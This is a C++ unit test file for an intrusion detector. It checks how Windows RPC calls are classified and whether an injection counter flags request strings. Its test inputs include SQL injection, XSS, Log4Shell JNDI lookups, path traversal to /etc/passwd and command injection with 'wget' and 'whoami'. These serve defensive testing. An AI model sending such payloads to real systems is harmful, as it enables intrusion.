// SPDX-License-Identifier: MIT
// app/rpc_effect.hpp and app/injection.hpp: which remote calls count as what, which text tries to run as code; and
// what resembles both but is everyday use.
#include <doctest/doctest.h>

#include <string>
#include <string_view>

#include <mldefender/core/app/injection.hpp>
#include <mldefender/core/app/rpc_effect.hpp>

using namespace mldefender;

namespace {

int injections(std::string_view text) {
    return detail::app::count_injections({reinterpret_cast<const std::uint8_t*>(text.data()), text.size()});
}

}  // namespace

TEST_CASE("calls that start something, and their neighbours that only ask") {
    using enum rpc_interface;
    for (const std::uint16_t create_or_start : std::initializer_list<std::uint16_t>{12, 19, 24, 31}) {
        CHECK(effect_of(svcctl, create_or_start, mask_of(svcctl)) == rpc_effect::execution);
    }
    for (const std::uint16_t open_or_query : std::initializer_list<std::uint16_t>{0, 6, 14, 15, 16, 17}) {
        CHECK(effect_of(svcctl, open_or_query, mask_of(svcctl)) == rpc_effect::none);
    }
    CHECK(effect_of(itaskscheduler, 1, 0) == rpc_effect::execution);
    CHECK(effect_of(itaskscheduler, 7, 0) == rpc_effect::none);
    CHECK(effect_of(atsvc, 0, 0) == rpc_effect::execution);
}

TEST_CASE("WMI and automation share a connection: numbers mean what the interfaces seen say") {
    using enum rpc_interface;
    CHECK(effect_of(wmi, 24, mask_of(wmi)) == rpc_effect::execution);
    CHECK(effect_of(dcom, 24, mask_of(wmi) | mask_of(dcom)) == rpc_effect::execution);
    CHECK(effect_of(wmi, 20, mask_of(wmi)) == rpc_effect::none);  // a query
    CHECK(effect_of(dcom, 6, mask_of(dcom)) == rpc_effect::execution);
    CHECK(effect_of(dcom, 6, mask_of(dcom) | mask_of(wmi)) == rpc_effect::none);  // WMI's log-in
    CHECK(effect_of(none, 24, 0) == rpc_effect::execution);                       // joined midway
    CHECK(effect_of(none, 23, 0) == rpc_effect::none);
}

TEST_CASE("an ordinary log-on to a domain counts only as a machine's log-in") {
    using enum rpc_interface;
    CHECK(effect_of(drsuapi, 0, 0) == rpc_effect::none);
    CHECK(effect_of(drsuapi, 12, 0) == rpc_effect::none);
    CHECK(effect_of(drsuapi, 3, 0) == rpc_effect::replication);
    CHECK(effect_of(epm, 3, 0) == rpc_effect::none);
    CHECK(effect_of(epm, 2, 0) == rpc_effect::enumeration);
    CHECK(effect_of(lsarpc, 76, 0) == rpc_effect::none);
    CHECK(effect_of(lsarpc, 43, 0) == rpc_effect::abuse);
    CHECK(effect_of(srvsvc, 15, 0) == rpc_effect::none);
    CHECK(effect_of(samr, 13, 0) == rpc_effect::enumeration);
    CHECK(effect_of(samr, 58, 0) == rpc_effect::abuse);
    CHECK(effect_of(netlogon, 26, 0) == rpc_effect::channel);
    CHECK(effect_of(netlogon, 45, 0) == rpc_effect::none);
    CHECK(effect_of(other, 12, 0) == rpc_effect::none);
}

TEST_CASE("clauses, tags, look-ups, climbing and commands are found, escaped or not") {
    CHECK(injections("/item?id=1%27+or+1%3D1") == 1);
    CHECK(injections("/item?id=1' and 'a'='a") == 1);
    CHECK(injections("/item?id=1'--") == 1);
    CHECK(injections("/item?id=-1+UNION+ALL+SELECT+name") == 1);
    CHECK(injections("/q?x=%3CScript%3Ealert(1)") == 1);
    CHECK(injections("name=%24%7Bjndi%3Aldap://a/b%7D") == 1);
    CHECK(injections("/q?x=${${lower:j}ndi:x}") >= 1);
    CHECK(injections("/show?file=../../../etc/passwd") == 1);
    CHECK(injections("/run?host=a;wget http://b/c") == 1);
    CHECK(injections("/run?host=a%7Cwhoami") == 1);
}

TEST_CASE("what people, pages and advertisements send is none") {
    CHECK(injections("") == 0);
    CHECK(injections("/search?q=rock+'n'+roll+and+blues") == 0);
    CHECK(injections("/search?q=trade+union+selection") == 0);
    CHECK(injections("/ad?price=${AUCTION_PRICE}&b=%7B%22a%22:[1,2]%7D") == 0);
    CHECK(injections("/../style.css") == 0);
    CHECK(injections("/a/../../b.png") == 0);
    CHECK(injections("/list?a=1;b=2;category=3") == 0);
    CHECK(injections("/x?html=%3Cb%3Ebold%3C/b%3E") == 0);
    CHECK(injections("/x?a=%") == 0);
    CHECK(injections("/x?a=%2") == 0);
    CHECK(injections("'") == 0);
    CHECK(injections("$") == 0);
    CHECK(injections("/x?long=" + std::string(600, 'a') + "' or 1=1") == 0);  // beyond what is looked at
}
